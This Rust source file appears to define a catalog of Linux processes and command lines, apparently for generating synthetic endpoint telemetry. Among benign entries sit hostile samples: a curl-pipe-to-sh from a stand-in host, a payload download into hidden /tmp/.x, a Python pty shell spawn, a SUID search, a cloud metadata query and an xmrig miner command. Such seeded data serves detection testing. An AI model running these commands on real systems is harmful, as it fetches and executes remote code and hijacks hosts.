//! Linux. Nothing is signed there.

use super::Account::{System, User};
use super::{Catalog, Listed, Maker};

const BIN: &str = "/usr/bin";
const DISTRIBUTION: Maker = Maker { company: "", product: "", version: "", signer: None };

pub(super) const CATALOG: Catalog = Catalog { residents: RESIDENTS, started: STARTED, libraries: &[] };

const RESIDENTS: &[Listed] = &[
    Listed::new(["systemd", "/usr/lib/systemd"], DISTRIBUTION, "", System, "", &["/sbin/init splash"]),
    Listed::new(
        ["wdavdaemon", "/opt/microsoft/mdatp/sbin"],
        DISTRIBUTION,
        "",
        System,
        "systemd",
        &["/opt/microsoft/mdatp/sbin/wdavdaemon"],
    ),
    Listed::new(
        ["sshd", "/usr/sbin"],
        DISTRIBUTION,
        "",
        System,
        "systemd",
        &["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"],
    ),
    Listed::new(["cron", "/usr/sbin"], DISTRIBUTION, "", System, "systemd", &["/usr/sbin/cron -f -P"]),
    Listed::new(
        ["containerd", BIN],
        DISTRIBUTION,
        "",
        System,
        "systemd",
        &["/usr/bin/containerd --config /etc/containerd/config.toml"],
    ),
    Listed::new(["nginx", "/usr/sbin"], DISTRIBUTION, "", User, "systemd", &["nginx: worker process"]),
    Listed::new(["bash", BIN], DISTRIBUTION, "", User, "sshd", &["-bash"]),
];

const STARTED: &[Listed] = &[
    Listed::new(
        ["bash", BIN],
        DISTRIBUTION,
        "",
        User,
        "bash",
        &[
            r#"bash -c "curl -fsSL https://cdn-updates.example.org/{hex} | sh""#,
            "/bin/bash -l -c 'cd \"$HOME/projects/übersicht\" && make -j4 2>&1 | tee build.log'",
        ],
    ),
    Listed::new(
        ["sh", BIN],
        DISTRIBUTION,
        "",
        System,
        "cron",
        &[
            "/bin/sh -c [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
            "/bin/sh -c test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
        ],
    ),
    Listed::new(
        ["curl", BIN],
        DISTRIBUTION,
        "",
        User,
        "bash",
        &[
            "curl -fsSL https://cdn-updates.example.org/{hex} -o /tmp/.x/{hex}",
            "curl --retry 3 --max-time 20 -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        ],
    ),
    Listed::new(
        ["python3.12", BIN],
        DISTRIBUTION,
        "",
        User,
        "bash",
        &[
            r#"python3 -c "import pty; pty.spawn('/bin/sh')""#,
            "/usr/bin/python3 -s /usr/share/unattended-upgrades/unattended-upgrade-shutdown --wait-for-signal",
        ],
    ),
    Listed::new(
        ["tar", BIN],
        DISTRIBUTION,
        "",
        User,
        "bash",
        &[
            "tar --extract --gzip --file /home/{user}/backup-{number}.tar.gz --directory /srv/restore --strip-components=1",
        ],
    ),
    Listed::new(["sudo", BIN], DISTRIBUTION, "", User, "bash", &["sudo -n systemctl restart nginx.service"]),
    Listed::new(
        ["systemctl", BIN],
        DISTRIBUTION,
        "",
        System,
        "systemd",
        &["systemctl is-active --quiet auditd.service"],
    ),
    Listed::new(
        ["find", BIN],
        DISTRIBUTION,
        "",
        User,
        "bash",
        &["find / -perm -4000 -type f -not -path '/proc/*' -exec ls -ld {} ;"],
    ),
    Listed::new(
        ["runc", "/usr/sbin"],
        DISTRIBUTION,
        "",
        System,
        "containerd",
        &[
            "runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/{hex}{hex}{hex}{hex}{hex}{hex}{hex}{hex}/log.json --log-format json --systemd-cgroup exec --process /tmp/runc-process{number} --detach --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/{hex}{hex}{hex}{hex}{hex}{hex}{hex}{hex}/{hex}.pid {hex}{hex}{hex}{hex}{hex}{hex}{hex}{hex}",
        ],
    ),
    Listed::new(
        ["dpkg", BIN],
        DISTRIBUTION,
        "",
        System,
        "systemd",
        &[
            "/usr/bin/dpkg --status-fd 35 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/libssl3t64_3.0.13-0ubuntu3.5_amd64.deb",
        ],
    ),
    Listed::new(
        ["xmrig", "/tmp/.x"],
        DISTRIBUTION,
        "",
        User,
        "bash",
        &["/tmp/.x/xmrig -o stratum+tcp://pool.example.org:3333 -u {hex}{hex}{hex} --donate-level 1 -B"],
    ),
];
